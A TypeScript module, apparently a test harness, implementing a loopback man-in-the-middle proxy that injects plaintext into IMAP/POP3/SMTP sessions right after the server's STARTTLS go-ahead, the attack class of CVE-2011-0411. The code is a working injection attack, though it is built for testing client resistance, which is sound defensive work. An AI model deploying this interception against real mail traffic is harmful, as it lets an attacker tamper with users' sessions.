// A man in the middle on loopback, in front of a real Dovecot/Postfix STARTTLS port: it relays every byte, and right
// after the server's go-ahead to STLS/STARTTLS it injects plaintext lines of its own (the attack class of
// CVE-2011-0411). The TLS session that follows is the real server's, end to end.
import * as net from "node:net";

export interface StarttlsMitm {
  readonly port: number;
  /** Injections made so far (one per connection that asked for STARTTLS). */
  readonly injections: () => number;
  close(): Promise<void>;
}

export interface MitmOptions {
  /** Plaintext to inject after the go-ahead; empty = a faithful relay. */
  readonly inject: string;
  /**
   * Where the plaintext goes: in the same segment as the go-ahead (before the client could start TLS), or into the
   * TLS stream, written to the client as soon as its ClientHello passes and before that ClientHello is relayed, so
   * it always reaches the client ahead of the server's first handshake record (no timer, no race).
   * @default "with-go-ahead"
   */
  readonly at?: "with-go-ahead" | "after-client-hello";
}

const STARTTLS_COMMAND = /^(?:\S+ )?(?:STLS|STARTTLS)\r?$/im;

export async function startStarttlsMitm(target: { host: string; port: number }, options: MitmOptions): Promise<StarttlsMitm> {
  const sockets = new Set<net.Socket>();
  let injections = 0;
  const server = net.createServer((client) => {
    const upstream = net.connect(target.port, target.host);
    for (const s of [client, upstream]) {
      sockets.add(s);
      s.on("error", () => undefined);
      s.on("close", () => {
        sockets.delete(s);
        client.destroy();
        upstream.destroy();
      });
    }
    let state: "plain" | "asked" | "tls-pending" | "relay" = "plain";
    client.on("data", (chunk: Buffer) => {
      if (state === "plain" && STARTTLS_COMMAND.test(chunk.toString("latin1"))) state = "asked";
      else if (state === "tls-pending") {
        // The client's first TLS bytes (its ClientHello): answer them with the plaintext, then let them through.
        state = "relay";
        injections++;
        client.write(options.inject, "latin1");
      }
      upstream.write(chunk);
    });
    upstream.on("data", (chunk: Buffer) => {
      if (state !== "asked" || options.inject === "") return void client.write(chunk);
      if (options.at === "after-client-hello") {
        state = "tls-pending";
        return void client.write(chunk);
      }
      state = "relay";
      injections++;
      client.write(Buffer.concat([chunk, Buffer.from(options.inject, "latin1")]));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    injections: () => injections,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}
